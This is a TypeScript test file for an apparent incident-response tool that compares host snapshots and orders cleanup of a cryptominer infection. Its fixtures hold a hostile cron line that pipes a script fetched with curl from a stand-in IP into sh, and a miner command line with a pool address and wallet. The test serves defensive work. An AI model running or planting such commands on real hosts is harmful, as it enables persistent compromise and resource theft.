import { describe, expect, it } from 'vitest'
import { emptyPicture, emptyProcess, type Picture } from '../picture.js'
import { commandRow } from '../tell/tell.fixture.js'
import { cleanUp } from './clean-up.js'
import { comparePictures } from './compare.js'
import { itemsOf } from './item.js'

const wallet = '48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD'
const honest = { ...emptyProcess, pid: 1, name: 'nginx', path: '/usr/sbin/nginx', cmdline: 'nginx: master' }
const miner = {
  ...emptyProcess,
  pid: 77,
  name: 'a',
  path: '/tmp/a',
  cmdline: `/tmp/a -o pool.supportxmr.com:443 -u ${wallet}`,
}
const cron = commandRow('curl -s http://192.0.2.1/a.sh | sh', 'cron', '*/5 * * * *')
const base: Picture = { ...emptyPicture, os: 'linux', subject: { kind: 'host', id: 'h' }, processes: [honest] }
const sick: Picture = { ...base, processes: [honest, miner], commands: [cron] }

describe('a later snapshot against an earlier one', () => {
  it('is clean when nothing is left', () => {
    expect(comparePictures(sick, base)).toMatchObject({ outcome: 'clean', fates: [{ is: 'gone' }, { is: 'gone' }] })
  })

  it('is residual when something may start it again', () => {
    expect(comparePictures(sick, { ...base, commands: [cron] })).toMatchObject({
      outcome: 'residual',
      fates: [{ is: 'there', item: { kind: 'cron' } }, { is: 'gone' }],
    })
  })

  it('has returned when it runs again, under another number', () => {
    const again = comparePictures(sick, { ...base, processes: [honest, { ...miner, pid: 99 }] })
    expect(again.outcome).toBe('returned')
    expect(again.fates.map(({ is }) => is)).toEqual(['gone', 'there'])
  })

  it('has returned when something new runs', () => {
    const other = { ...miner, path: '/var/tmp/b', cmdline: miner.cmdline.replace('/tmp/a', '/var/tmp/b') }
    expect(comparePictures(sick, { ...base, processes: [honest, other] })).toMatchObject({
      outcome: 'returned',
      fates: [{ is: 'gone' }, { is: 'gone' }, { is: 'new' }],
    })
  })

  it('proves nothing when the later look could not see', () => {
    expect(comparePictures(sick, { ...base, processes: [] }).outcome).toBe('unproven')
    const blind = comparePictures(
      { ...sick, commands: [{ ...cron, where: '/var/spool/cron/root' }] },
      { ...base, notCollected: ['/var/spool/cron'] },
    )
    expect(blind).toMatchObject({ outcome: 'unproven', fates: [{ is: 'unseen' }, { is: 'gone' }] })
  })

  it('tells when they are of two hosts', () => {
    expect(comparePictures(sick, { ...base, subject: { kind: 'host', id: 'other' } }).otherHost).toBe(true)
  })
})

it('cleans up schedules before processes, and keeps evidence before either', () => {
  const codes = cleanUp(itemsOf(sick)).map(({ say }) => say.code)
  expect(codes[0]).toBe('clean-up.keep')
  expect(codes.indexOf('clean-up.cron')).toBeLessThan(codes.indexOf('clean-up.process'))
  expect(cleanUp(itemsOf(base))).toEqual([])
})
